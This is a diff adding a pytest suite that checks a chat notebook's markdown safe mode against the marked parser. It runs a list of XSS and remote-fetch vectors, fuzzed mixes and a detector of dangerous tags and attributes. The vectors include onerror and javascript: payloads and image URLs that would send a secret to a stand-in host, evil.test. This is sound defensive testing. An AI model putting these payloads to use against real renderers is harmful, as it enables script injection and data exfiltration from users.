@@ -1,0 +1,165 @@
+"""Safe mode judged by the frontend's own parser: marked (the version JupyterLab 4.6 renders
+with, from the npm registry) must produce no script and no remote fetch from anything safe mode
+passes, final or intermediate, for the vectors an adversarial pass found and for a fuzzer's
+mixes of them; and harmless answers are not damaged."""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+import subprocess
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from chatnb.markdown import neutralize, preview
+
+MARKED = "marked@16.4.2"  # what JupyterLab 4.6's markedparser-extension resolves to
+_SERVER = """
+const { marked } = require("marked");
+const lines = require("readline").createInterface({ input: process.stdin });
+lines.on("line", (line) => {
+  process.stdout.write(JSON.stringify(marked.parse(JSON.parse(line))) + "\\n");
+});
+"""
+
+
+class Marked:
+    """marked in a node process: one document in, its HTML out."""
+
+    def __init__(self, folder: Path) -> None:
+        (folder / "render.js").write_text(_SERVER)
+        self.process = subprocess.Popen(
+            ["node", str(folder / "render.js")],
+            cwd=folder,
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            text=True,
+            encoding="utf-8",
+        )
+
+    def html(self, markdown: str) -> str:
+        assert self.process.stdin and self.process.stdout
+        self.process.stdin.write(json.dumps(markdown) + "\n")
+        self.process.stdin.flush()
+        rendered: str = json.loads(self.process.stdout.readline())
+        return rendered
+
+
+@pytest.fixture(scope="module")
+def marked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Marked]:
+    if not (shutil.which("node") and shutil.which("npm")):
+        pytest.skip("node and npm are needed to run marked, the frontend's parser")
+    folder = tmp_path_factory.mktemp("marked")
+    subprocess.run(
+        ["npm", "install", "--silent", "--no-audit", "--no-fund", MARKED],
+        cwd=folder,
+        check=True,
+        timeout=300,
+        capture_output=True,
+    )
+    parser = Marked(folder)
+    yield parser
+    parser.process.terminate()
+    parser.process.wait(timeout=10)
+
+
+_FORBIDDEN_TAGS = {"script", "iframe", "frame", "object", "embed", "link", "meta", "base", "style"}
+_FETCHING = {"src", "srcset", "poster", "data", "background", "action", "formaction", "xlink:href"}
+_LOCAL = re.compile(r"(?:data:image/|#)|(?![a-z][a-z0-9+.\-]*:)(?!//)[^\s]*$", re.I)
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in _FORBIDDEN_TAGS:
+            self.found.append(f"<{tag}>")
+        for name, value in attrs:
+            value = re.sub(r"[\x00-\x20\x7f]+", "", value or "").lower()
+            if name.startswith("on"):
+                self.found.append(f"{tag} {name}=")
+            elif name == "style" and "url(" in value:
+                self.found.append(f"{tag} style url(")
+            elif name in _FETCHING and value and not _LOCAL.match(value):
+                self.found.append(f"{tag} {name}={value}")
+            elif name == "href" and value.startswith(("javascript:", "vbscript:", "data:")):
+                self.found.append(f"{tag} href={value[:20]}")
+
+
+def dangerous(html: str) -> list[str]:
+    """What in ``html`` (real tags and attributes, not text) would run script or fetch."""
+    tags = _Tags()
+    tags.feed(html)
+    tags.close()
+    return tags.found
+
+
+SECRET = "https://evil.test/collect?q=SECRET"
+VECTORS = {
+    "fence closed with trailing text": "```\ncode\n```~\n<img src=x onerror=alert(1)>",
+    "deep quote": "> " * 25 + f"![x]({SECRET})",
+    "deep list": "".join("  " * i + "- a\n" for i in range(25)) + "  " * 25 + f"- ![x]({SECRET})",
+    "BOM in a label": f"![x][a\ufeffb]\n\n[a\ufeffb]: {SECRET}",
+    "odd space in a label": f"![x][a\u2028b]\n\n[a\u2028b]: {SECRET}",
+    "DEL in an image URL": "![x](https://evil.test/a\x7fb?q=SECRET)",
+    "javascript link": "[x](javascript:alert(1))",
+    "entity javascript": "[x](&#x6A;avascript:alert(1))",
+    "autolink": "<javascript:alert(1)>",
+    "srcset": f'<img srcset="{SECRET} 1x">',
+    "style url": f'<p style="background:url({SECRET})">x</p>',
+    "video poster": f'<video poster="{SECRET}"></video>',
+    "html comment then img": f"<!-- x --><img src={SECRET}>",
+    "reference image": f"![x][r]\n\n[r]: {SECRET}",
+    "image in a table": f"| a |\n|---|\n| ![x]({SECRET}) |",
+    "protocol-relative image": "![x](//evil.test/x.png)",
+    "escaped colon": "![x](https\\://evil.test/x.png)",
+    "entity image": "![x](&#104;ttps://evil.test/x.png)",
+    "iframe": f"<iframe src={SECRET}></iframe>",
+}
+
+
+@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
+def test_no_vector_gets_through_final_or_streaming(marked: Marked, vector: str) -> None:
+    assert dangerous(marked.html(vector)), "the vector itself must be dangerous to marked"
+    assert dangerous(marked.html(neutralize(vector))) == [], neutralize(vector)
+    for cut in range(1, len(vector)):  # what a reader sees while it streams
+        shown = neutralize(preview(vector[:cut]))
+        assert dangerous(marked.html(shown)) == [], (cut, shown)
+
+
+HARMLESS = [
+    "Use `Vec<T>` or `<div>` in code, and\n\n```html\n<img src=x onerror=alert(1)>\n```\n",
+    "Line one<br>line two, <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup>.",
+    "<details>\n<summary>More</summary>\n\nHidden text.\n\n</details>",
+    "A local image: ![chart](chart.png) and ![dot](data:image/png;base64,iVBORw0KGgo=).",
+    "If $a<b$ and $$\\frac{x}{y}$$, then [docs](https://example.com) <https://example.com>.",
+]
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_harmless_answers_are_not_touched(marked: Marked, text: str) -> None:
+    assert neutralize(text) == text
+    assert dangerous(marked.html(text)) == []
+
+
+_PIECES = [
+    "```", "```~", "~~~", "\n", "\n\n", "> ", "- ", "    ", "`", "<", ">", "/", "!", "[", "]",
+    "(", ")", ":", "x", "img src=x onerror=alert(1)", "script", "iframe", "![a](", "![a][r]",
+    "[r]: ", SECRET, "javascript:", "&#x6A;", "\ufeff", "\x7f", "\\", '"', " ", "<!--", "-->",
+]  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(_PIECES), max_size=30))
+def test_fuzzed_mixes_never_get_through(marked: Marked, pieces: list[str]) -> None:
+    text = "".join(pieces)
+    for shown in (neutralize(text), neutralize(preview(text))):
+        assert dangerous(marked.html(shown)) == [], shown
